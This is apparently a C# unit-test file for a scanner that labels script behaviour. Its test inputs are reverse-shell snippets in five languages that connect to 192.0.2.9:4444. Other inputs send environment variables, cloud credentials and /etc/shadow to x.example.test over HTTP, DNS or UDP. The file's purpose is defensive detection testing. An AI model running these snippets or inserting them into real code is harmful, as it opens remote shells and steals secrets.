using Xunit;

namespace Wellguard.Tests.Programs.Scripts;

public sealed class ConnectionTests
{
    private const string Connect = "Connect 192.0.2.9:4444";
    private const string Runs = "Interpret sh from 192.0.2.9:4444";

    [Theory]
    [InlineData("javascript", "const c = require('net').connect(4444, '192.0.2.9'); c.on('data', d => require('child_process').exec(d.toString()))", Connect, Runs)]
    [InlineData("javascript", "const net = require('net'); var c = new net.Socket(); c.connect(4444, '192.0.2.9', () => { c.on('data', d => { require('child_process').exec(d.toString()) }) })", Connect, Runs)]
    [InlineData("python", "import socket, subprocess\ns = socket.socket(); s.connect(('192.0.2.9', 4444))\nd = s.recv(1024).decode()\ns.send(subprocess.getoutput(d).encode())", Connect, Runs, "Send 192.0.2.9:4444")]
    [InlineData("python", "import socket, subprocess\ndef run(s):\n    subprocess.getoutput(s.recv(1024).decode())\ns = socket.socket()\ns.connect(('192.0.2.9', 4444))\nrun(s)", Runs, Connect)]
    [InlineData("python", "def run(s):\n    exec(s.recv(1024))")]
    [InlineData("python", "import socket, os\ns = socket.create_connection(('127.0.0.1', 4444))\nos.system(s.recv(10))", "Connect 127.0.0.1:4444")]
    [InlineData("perl", "my $s = IO::Socket::INET->new(PeerAddr => '192.0.2.9', PeerPort => 4444);\nwhile (<$s>) { my $o = `$_`; }", Connect, Runs + " ?")]
    [InlineData("ruby", "s = TCPSocket.new('192.0.2.9', 4444)\nwhile cmd = s.gets\n  IO.popen(cmd, 'r') { |io| s.print io.read }\nend", Connect, Runs + " ?")]
    [InlineData("php", "<?php $s = fsockopen('192.0.2.9', 4444); fwrite($s, shell_exec(fgets($s, 1024)));", Connect, Runs)]
    public void Commands_that_come_over_a_connection_have_its_address(string language, string code, params string[] expected) =>
        Assert.Equal(expected, Evaluation.Lines(language, code));

    [Theory]
    [InlineData("python", "import socket, subprocess\ns = socket.create_connection(('192.0.2.9', 4444))\nsubprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())")]
    [InlineData("perl", "use Socket; socket(S, PF_INET, SOCK_STREAM, 6); if (connect(S, sockaddr_in(4444, inet_aton('192.0.2.9')))) { open(STDIN, \">&S\"); exec(\"/bin/sh -i\"); }")]
    [InlineData("perl", "my $s = IO::Socket::INET->new('192.0.2.9:4444'); open(STDIN, '<&', $s); open(STDOUT, '>&', $s); exec '/bin/sh';")]
    [InlineData("php", "<?php $s = fsockopen('192.0.2.9', 4444); proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $p);")]
    public void A_shell_that_is_wired_to_a_connection_is_said(string language, string code) =>
        Assert.Contains(Connect + " = shell", Evaluation.Lines(language, code));

    [Theory]
    [InlineData("python", "import socket\nd = open('/root/.aws/credentials').read()\nsocket.gethostbyname(d[:50] + '.x.example.test')", "Send ${_}.x.example.test from /root/.aws/credentials")]
    [InlineData("python", "import socket, os, json\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(json.dumps(dict(os.environ)).encode(), ('192.0.2.9', 53))", "Send 192.0.2.9:53 from environment")]
    [InlineData("python", "import http.client, os, json\nc = http.client.HTTPConnection('x.example.test')\nc.request('GET', '/?d=' + json.dumps(dict(os.environ)))", "Send x.example.test from environment")]
    [InlineData("python", "import boto3, requests\nc = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post('https://x.example.test/c', json={'a': c.access_key})", "Send https://x.example.test/c from cloud credentials")]
    [InlineData("python", "import os, requests\nt = requests.get(os.environ['IDENTITY_ENDPOINT'] + '?a=1').json()\nrequests.post('https://x.example.test/c', json=t)", "Send https://x.example.test/c from environment[IDENTITY_ENDPOINT]")]
    [InlineData("javascript", "require('dns').lookup(Buffer.from(JSON.stringify(process.env)).toString('hex') + '.x.example.test', () => {})", "Send ${_}.x.example.test from environment")]
    [InlineData("javascript", "require('https').get({hostname: 'x.example.test', path: '/', headers: {'x-a': JSON.stringify(process.env)}}, r => {})", "Send https://x.example.test/ from environment")]
    [InlineData("php", "<?php $c = curl_init('https://x.example.test/c'); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('/etc/shadow'));", "Send https://x.example.test/c from /etc/shadow")]
    [InlineData("php", "<?php file_get_contents('https://x.example.test/c', false, stream_context_create(['http' => ['method' => 'POST', 'content' => json_encode(getenv())]]));", "Send https://x.example.test/c from environment")]
    [InlineData("php", "<?php dns_get_record(bin2hex(file_get_contents('/etc/shadow')) . '.x.example.test');", "Send ${_}.x.example.test from /etc/shadow")]
    [InlineData("ruby", "Net::HTTP.post(URI('https://x.example.test/c'), ENV.to_h.to_json)", "Send https://x.example.test/c from environment")]
    public void Data_leaves_in_names_headers_and_datagrams(string language, string code, string expected) =>
        Assert.Contains(expected, Evaluation.Lines(language, code));

    [Theory]
    [InlineData("python", "import socket, os\nsocket.gethostbyname(os.environ['DB_HOST'])")]
    [InlineData("javascript", "require('dns').lookup('example.test', () => {})")]
    [InlineData("javascript", "require('https').get({hostname: 'api.example.test', headers: {authorization: 'Bearer ' + process.env.API_TOKEN}}, r => {})")]
    public void Names_and_headers_of_honest_clients_send_nothing(string language, string code) =>
        Assert.DoesNotContain(Evaluation.Lines(language, code), static line => line.StartsWith("Send", StringComparison.Ordinal));
}
